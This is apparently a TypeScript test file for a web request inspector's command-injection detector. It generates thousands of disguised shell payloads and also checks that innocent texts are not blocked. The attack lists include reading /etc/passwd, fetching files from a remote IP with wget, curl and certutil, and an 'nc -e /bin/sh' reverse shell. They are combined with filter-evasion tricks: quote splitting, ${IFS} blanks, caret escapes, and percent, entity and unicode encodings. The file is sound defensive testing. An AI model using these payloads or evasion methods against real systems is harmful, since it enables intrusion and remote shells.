import { describe, expect, test } from 'vitest';
import { inspectRequest } from '../inspect.ts';
import type { Location } from '../types.ts';

/** Attacks, as the words and blanks that the rewrites below disguise. */
const UNIX_ATTACKS: readonly (readonly string[])[] = [
  ['whoami'],
  ['cat', '/etc/passwd'],
  ['uname', '-a'],
  ['wget', 'http://198.51.100.7/a'],
  ['curl', '-s', 'http://198.51.100.7/a'],
  ['ping', '-c', '4', '198.51.100.7'],
  ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'],
  ['ls', '-la', '/var/www'],
  ['chmod', '777', '/tmp/a'],
  ['bash', '-c', 'whoami'],
  ['perl', '-e', 'exec'],
  ['tail', '-n', '9', '/var/log/auth.log'],
];
const WINDOWS_ATTACKS: readonly (readonly string[])[] = [
  ['whoami', '/all'],
  ['ipconfig', '/all'],
  ['ping', '-n', '4', '198.51.100.7'],
  ['tasklist', '/v'],
  ['dir', 'c:\\windows'],
  ['net', 'user'],
  ['certutil', '-urlcache', '-f', 'http://198.51.100.7/a'],
  ['powershell', '-c', 'Get-Process'],
  ['type', 'c:\\windows\\win.ini'],
];
/** Texts that hold the same words and signs, and no command. */
const INNOCENT: readonly string[] = [
  'black & white',
  'cats; dogs; birds',
  'Tom & Jerry; cat lovers',
  'find it | keep it',
  'sort by date; print it',
  'a time to sleep; a time to echo',
  'R&D | Sales',
  'call me; I am at home',
  'more or less; who knows',
  'head of sales & marketing',
  'the cat sat; the dog ran',
  'type, set and test',
  'java; php; python',
  'Nice cat food & more',
];

/** A small linear generator (Numerical Recipes constants), so that each run and each machine sees the same texts. */
function randomOf(seed: number): (below: number) => number {
  let state = seed >>> 0;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}
type Random = ReturnType<typeof randomOf>;

function pick<Item>(items: readonly Item[], random: Random): Item {
  // The lists below are not empty and the index is below their length.
  return items[random(items.length)] as Item;
}

/** Puts a sign between two letters of a word. */
function splitBy(sign: string): (word: string, random: Random) => string {
  return (word, random) => {
    const at = 1 + random(word.length - 1);
    // A backslash and an `n` are a line break in many languages; attackers know that too.
    return sign === '\\' && word[at] === 'n' ? word : word.slice(0, at) + sign + word.slice(at);
  };
}

function quoteLetter(quote: string): (word: string, random: Random) => string {
  return (word, random) => {
    const at = 1 + random(Math.max(1, word.length - 2));
    return at >= word.length - 1 ? word : `${word.slice(0, at)}${quote}${word.slice(at, at + 1)}${quote}${word.slice(at + 1)}`;
  };
}

type Rewrite = (word: string, random: Random) => string;
const UNIX_WORDS: readonly Rewrite[] = [
  (word) => word,
  quoteLetter("'"),
  quoteLetter('"'),
  splitBy("''"),
  splitBy('""'),
  splitBy('\\'),
  splitBy('$@'),
  splitBy('$*'),
  splitBy('${x}'),
  (word) => `/usr/bin/${word}`,
  (word) => `/???/${word}`,
  (word) => `/b[i]n/${word}`,
  (word) => `\\${word}`,
  (word) => `$zz ${word}`,
  (word) => `sudo ${word}`,
  (word) => `timeout 9 ${word}`,
  (word) => `A=b ${word}`,
];
const WINDOWS_WORDS: readonly Rewrite[] = [
  (word) => word,
  splitBy('^'),
  splitBy('""'),
  (word) => word.toUpperCase(),
  (word, random) => word.replaceAll(/[a-z]/g, (letter) => (random(2) === 0 ? letter : letter.toUpperCase())),
  (word) => `${word}.exe`,
  (word) => `c:\\windows\\system32\\${word}`,
  (word) => `@${word}`,
];
const UNIX_BLANKS = [' ', '  ', '\t', '${IFS}', '$IFS', '$IFS$9', ' \t '];
const WINDOWS_BLANKS = [' ', '  ', '\t'];
const UNIX_OPENINGS = ['x;', 'x; ', 'x|', 'x | ', 'x||', 'x&&', '1 & ', '"; ', "';", '\n', 'x`', 'x$(', ';'];
const WINDOWS_OPENINGS = ['x&', 'x & ', 'x&&', 'x|', 'x || ', '"&', '|'];

function percent(text: string): string {
  return text.replaceAll(/\W/g, hexOf);
}

/** All signs above are ASCII, so one escape is one sign. */
function hexOf(sign: string): string {
  return `%${sign.charCodeAt(0).toString(16).padStart(2, '0')}`;
}

function entities(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll("'", '&#39;').replaceAll('<', '&lt;');
}

function escapes(text: string): string {
  return text.replaceAll(/[^\w\s]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

const TRANSPORTS: readonly ((text: string) => string)[] = [(text) => text, (text) => text, percent, entities, escapes];

interface Dialect {
  attacks: readonly (readonly string[])[];
  words: readonly Rewrite[];
  blanks: readonly string[];
  openings: readonly string[];
}
const UNIX: Dialect = { attacks: UNIX_ATTACKS, words: UNIX_WORDS, blanks: UNIX_BLANKS, openings: UNIX_OPENINGS };
const WINDOWS: Dialect = { attacks: WINDOWS_ATTACKS, words: WINDOWS_WORDS, blanks: WINDOWS_BLANKS, openings: WINDOWS_OPENINGS };
const ROUNDS = 3_000;

function disguise({ attacks, words, blanks, openings }: Dialect, random: Random): string {
  const [program = '', ...rest] = pick(attacks, random);
  const blank = pick(blanks, random);
  const opening = pick(openings, random);
  const closing = opening.endsWith('`') ? '`' : opening.endsWith('$(') ? ')' : pick(['', ' ', ' #', ';'], random);
  const line = [pick(words, random)(program, random), ...rest].join(blank);
  return pick(TRANSPORTS, random)(`${opening}${line}${closing}`);
}

function isStopped(value: string, location: Location): boolean {
  const request = { method: 'POST', path: '/', fields: [{ location, name: 'note', value }] };
  return inspectRequest(request, { groups: ['cmdi'] }).isAttack;
}

describe.each([
  ['a Unix shell', UNIX],
  ['the Windows command processor', WINDOWS],
] as const)('%s', (_, dialect) => {
  test('a disguised command is stopped whatever the disguise', () => {
    const random = randomOf(20_260_731);
    const missed = new Set<string>();
    for (let round = 0; round < ROUNDS; round++) {
      const value = disguise(dialect, random);
      if (!isStopped(value, 'form')) missed.add(value);
    }
    expect([...missed]).toEqual([]);
  });
});

test('innocent texts pass in every transport encoding and case', () => {
  const blocked = INNOCENT.flatMap((text) =>
    [text, text.toUpperCase(), text.replaceAll(' ', '\t'), text.replaceAll(' ', '  ')].flatMap((form) =>
      TRANSPORTS.map((transport) => transport(form)).filter((value) => isStopped(value, 'form')),
    ),
  );
  expect(blocked).toEqual([]);
});

test('disguises without a command pass', () => {
  const random = randomOf(7);
  const names = ['Anna', 'boat', 'river', 'garden', 'lamp', 'orange', 'winter', 'basket'];
  const blocked: string[] = [];
  for (let round = 0; round < ROUNDS; round++) {
    const value = `${pick(names, random)}${pick([';', ' | ', ' & ', '; '], random)}${pick(UNIX_WORDS.slice(0, 9), random)(pick(names, random), random)}`;
    if (isStopped(value, 'form')) blocked.push(value);
  }
  expect(blocked).toEqual([]);
});
